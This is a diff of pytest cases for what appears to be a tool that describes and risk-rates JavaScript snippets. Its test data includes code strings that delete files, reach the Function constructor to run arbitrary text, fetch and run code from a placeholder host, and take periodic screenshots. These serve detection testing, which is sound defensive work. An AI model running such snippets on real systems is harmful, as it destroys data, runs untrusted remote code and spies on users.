@@ -238,3 +238,54 @@ def test_an_age_is_no_time_of_day(language: Language, code: str) -> None:
 )
 def test_what_is_left_until_a_moment_is_a_time(language: Language, code: str) -> None:
     assert AT_A_TIME in sentence(language, code)
+
+
+@pytest.mark.parametrize(
+    ("code", "said"),
+    [
+        ("with (require('fs')) { rmSync('a', {recursive: true}) }", "Deletes the folder “a”."),
+        ("with (require('fs')) unlinkSync('a.txt')", "Deletes a.txt."),
+        ("with (require('fs')) { var go = () => { unlinkSync('a.txt') }; } go();", "Deletes a.txt."),
+        ("with (require('fs')) with (require('child_process')) { unlinkSync('a.txt') }", "Deletes a.txt."),
+        ("with ({rm: require('fs').unlinkSync}) rm('a.txt')", "Deletes a.txt."),
+        ("const unlinkSync = console.log; with (require('fs')) unlinkSync('a.txt')", "Deletes a.txt."),
+        ("with (config) { console.log(name) }", "Computes and prints; touches no files, no network."),
+    ],
+)
+def test_names_in_with_are_those_of_its_object(code: str, said: str) -> None:
+    assert sentence(J, code) == said
+
+
+@pytest.mark.parametrize(
+    "function",
+    [
+        "Object.getPrototypeOf(function () {}).constructor",
+        "Object.getPrototypeOf(async () => {}).constructor",
+        "Reflect.getPrototypeOf(function* () {}).constructor",
+        "(function () {}).__proto__.constructor",
+        "Function.prototype.constructor",
+        "[].filter.constructor",
+        "''.trim.constructor",
+        "Math.max.constructor",
+        "parseInt.constructor",
+    ],
+)
+def test_every_way_to_the_constructor_of_functions_runs_a_text(function: str) -> None:
+    assert sentence(J, f"{function}(process.argv[2])()") == "Runs code that is only known at run time."
+    foreign = f"{function}(await (await fetch('https://a.example')).text())()"
+    assert assessed(J, foreign).attention is Level.CRITICAL
+    plain = f"const F = {function}; new F('a', 'return a + 1')(1)"
+    assert assessed(J, plain).attention is None
+
+
+@pytest.mark.parametrize(
+    "shot",
+    [
+        "require('screenshot-desktop')({filename: 'a.png'})",
+        "require('screenshot-desktop').all()",
+        "require('node-screenshots').Monitor.all()[0].captureImageSync()",
+        "require('@nut-tree/nut-js').screen.grab()",
+    ],
+)
+def test_a_picture_of_the_screen_is_a_capture(shot: str) -> None:
+    assert assessed(J, f"setInterval(() => {shot}, 60000)").attention is Level.CRITICAL
